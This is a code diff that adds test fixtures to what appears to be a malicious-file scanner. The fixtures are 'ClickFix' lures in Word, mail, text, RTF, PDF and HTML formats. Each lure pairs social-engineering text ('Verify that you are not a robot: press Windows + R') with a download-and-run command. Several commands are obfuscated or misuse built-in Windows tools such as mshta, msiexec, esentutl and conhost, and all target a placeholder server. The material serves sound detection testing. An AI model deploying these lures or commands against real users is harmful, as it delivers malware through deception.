@@ -98,8 +98,65 @@ const addIn = (location: string): Uint8Array =>
 
 type Row = [technique: string, id: string, plain: Uint8Array, disguised: Uint8Array, harmless: Uint8Array]
 
+/** Instructions as a document of Word, and as a mail. */
+const paragraphs = (...lines: string[]): Uint8Array =>
+  docx({
+    'word/document.xml': `${XML}<w:document><w:body>${lines.map((line) => `<w:p><w:r><w:t>${line.replaceAll('&', '&amp;')}</w:t></w:r></w:p>`).join('')}</w:body></w:document>`,
+  })
+const letter = (...lines: string[]): Uint8Array =>
+  Buffer.from(`From: a@a.example\r\nTo: b@b.example\r\nSubject: a\r\n\r\n${lines.join('\r\n')}\r\n`)
+const PASTE = ['Verify that you are not a robot:', 'press Windows + R, then Ctrl + V, then Enter.']
+const FIX = ['This document is protected. To fix the display error, open the Start menu, type Run', 'and paste:']
+const GUIDE = ['Press Windows + R and paste the name of the console, or copy it from here:', 'services.msc']
+const REPORTED = [
+  'Attackers ask people to press Windows + R and to paste a command. Never do this:',
+  `mshta http://${SERVER}/a`,
+]
+
 const RUN = 'new ActiveXObject("WScript.Shell").Run("calc")'
 const ROWS: readonly Row[] = [
+  [
+    'command to paste, in a document',
+    'Html.ClickFix',
+    paragraphs(...PASTE, `mshta http://${SERVER}/a.hta`),
+    paragraphs(...FIX, `p^owershell -w hidden -c "ir^m ${SERVER}/a | i^ex"`),
+    paragraphs(...GUIDE),
+  ],
+  [
+    'command to paste, in a mail',
+    'Html.ClickFix',
+    letter(...PASTE, `cmd /c curl -s http://${SERVER}/a.bat -o %temp%\\a.bat`),
+    letter(...FIX, `winget install --manifest \\\\${SERVER}\\s`),
+    letter(...REPORTED),
+  ],
+  [
+    'command to paste, in a text',
+    'Html.ClickFix',
+    Buffer.from([...PASTE, `msiexec /i http://${SERVER}/a.msi /qn`].join('\n')),
+    Buffer.from([...FIX, `SyncAppvPublishingServer.vbs "n;iwr http://${SERVER}/a|iex"`].join('\n')),
+    Buffer.from([...GUIDE, 'curl -fsSL https://get.example.com/install.sh | sh'].join('\n')),
+  ],
+  [
+    'command to paste, in rich text',
+    'Html.ClickFix',
+    Buffer.from(`{\\rtf1\\ansi ${[...PASTE, `mshta http://${SERVER}/a.hta`].join('\\par ')}}`),
+    Buffer.from(`{\\rtf1\\ansi {\\b ${FIX.join('}\\line ')} forfiles /c "mshta http://${SERVER}/a"}`),
+    Buffer.from(`{\\rtf1\\ansi ${REPORTED.join('\\par ')}}`),
+  ],
+  [
+    'command to paste, on a page of a PDF',
+    'Html.ClickFix',
+    content(...PASTE, `mshta http://${SERVER}/a.hta`),
+    content(...FIX, `conhost --headless powershell iwr http://${SERVER}/a`),
+    content(...GUIDE),
+  ],
+  [
+    'command to paste, in a page without a script',
+    'Html.ClickFix',
+    page(`<p>${PASTE.join(' ')}</p><code>mshta http://${SERVER}/a.hta</code>`),
+    page(`<p>${FIX.join(' ')}</p><pre>esentutl /y \\\\${SERVER}\\a.exe /d a.exe</pre>`),
+    page(`<p>${REPORTED.join(' ')}</p>`),
+  ],
   [
     'stylesheet with a script',
     'Script.Program',
@@ -332,7 +389,7 @@ const ROWS: readonly Row[] = [
   [
     'text that asks for a command',
     'Pdf.CommandText',
-    content('Press Win + R and paste:', `powershell -c "iex(irm http://${SERVER}/a)"`),
+    content('Press Win + R and paste:', 'powershell -c "iex(irm http://files.example.net/a)"'),
     content('Open the Run dialog', `mshta http://${SERVER}/a`),
     content('ClickFix: attackers ask to press Win + R', `mshta http://${SERVER}/a`),
   ],
